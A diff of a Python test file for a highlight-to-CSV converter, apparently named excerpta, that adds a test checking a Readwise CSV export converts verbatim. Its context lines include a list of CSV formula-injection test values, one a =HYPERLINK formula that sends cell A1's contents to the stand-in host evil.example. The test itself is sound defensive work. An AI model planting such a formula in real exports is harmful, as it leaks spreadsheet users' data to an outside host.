@@ -9,10 +9,10 @@ from pathlib import Path
 
 import pytest
 
+from conftest import CORPUS, EXAMPLES
 from excerpta.model import Document, Highlight, Library
 from excerpta.writers.csv_writer import FULL_COLUMNS, render_csv
 
-EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
 READWISE_HEADER = ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
 INJECTIONS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
@@ -220,3 +220,18 @@ def test_readwise_round_trip_keeps_awkward_text_and_the_ids_the_reader_derives(r
     ]
     assert second.read_bytes() == first.read_bytes()
     assert second_csv.read_bytes() == first_csv.read_bytes()
+
+
+def test_real_readwise_export_keeps_every_highlight_verbatim_in_the_readwise_profile(run_cli, tmp_path):
+    source = CORPUS / "readwise" / "csv-export" / "franco3x-bookshq-readwise-data.excerpt.csv"
+    out = _convert(run_cli, source, tmp_path / "out.csv", "--to", "csv", "--csv-profile", "readwise")
+    with source.open(encoding="utf-8", newline="") as handle:
+        expected = sorted((r["Highlight"], r["Book Title"], r["Book Author"], r["Note"], r["Location"])
+                          for r in csv.DictReader(handle))
+    with out.open(encoding="utf-8", newline="") as handle:
+        written = sorted((r["Highlight"], r["Title"], r["Author"], r["Note"], r["Location"])
+                         for r in csv.DictReader(handle))
+    assert written == expected
+    assert len(written) == 15
+    assert any("\n\n" in text for text, *_ in written)
+    assert any('"' in text for text, *_ in written)
